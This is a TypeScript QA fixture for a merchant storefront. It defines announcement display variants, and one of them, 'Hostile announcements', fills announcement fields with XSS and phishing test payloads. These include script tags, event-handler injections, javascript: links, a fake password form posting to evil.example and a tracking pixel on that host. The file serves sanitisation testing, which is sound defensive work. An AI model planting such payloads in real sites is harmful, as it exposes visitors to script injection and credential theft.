/** The forms of the announcements; a button of the QA page applies each to the merchant. */
import type { Announcement } from '@livery/contract/platform/content.ts'
import type { AnnouncementOptions } from '@livery/contract/platform/site-options.ts'

export type AnnouncementLook = {
  label: string
  patch: {
    settings?: { announcementOptions: AnnouncementOptions }
    content?: { announcements: Announcement[] }
  }
}

/** All options that some look switches; each look starts from these. */
const usual: AnnouncementOptions = {
  style: 'carousel',
  closeButton: 'inside',
  hideToday: true,
  neverShowAgain: true,
  forceRead: false,
}

/** Each would say so in an alert of the browser, or on the page, if it ran. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload="alert(1)"><circle r="4"></circle></svg>',
  '<a href="javascript:alert(1)">Claim your bonus</a>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>Log in again</button></form>',
  '<p style="position:fixed;inset:0;background:red">The site has moved</p>',
  '<a href="//evil.example/m/login">Log in here</a>',
  '<img src="https://evil.example/pixel.gif?who" alt="">',
]

const hostile = ['A', 'B'].flatMap(execution =>
  attacks.map(
    (attack, at): Announcement => ({
      id: `hostile-${execution}-${at}`,
      title: `Prize ${at + 1} <b onclick="alert(1)">for you</b>`,
      content: `<p>You have won.</p>${attack}`,
      promotionType: at === 0 ? '"><script>alert(1)</script>' : '',
      execution,
    }),
  ),
)

export const announcementLooks: readonly AnnouncementLook[] = [
  look('Announcement carousel', {}),
  look('Classic announcement', { style: 'classic' }),
  look('No announcement popup', { style: 'none' }),
  look('Close outside', { closeButton: 'outside' }),
  look('No close button', { closeButton: 'none' }),
  look('No checkbox', { hideToday: false, neverShowAgain: false }),
  look('Force read', { forceRead: true }),
  { label: 'Hostile announcements', patch: { content: { announcements: hostile } } },
  { label: 'No announcements', patch: { content: { announcements: [] } } },
]

function look(label: string, options: AnnouncementOptions): AnnouncementLook {
  return { label, patch: { settings: { announcementOptions: { ...usual, ...options } } } }
}
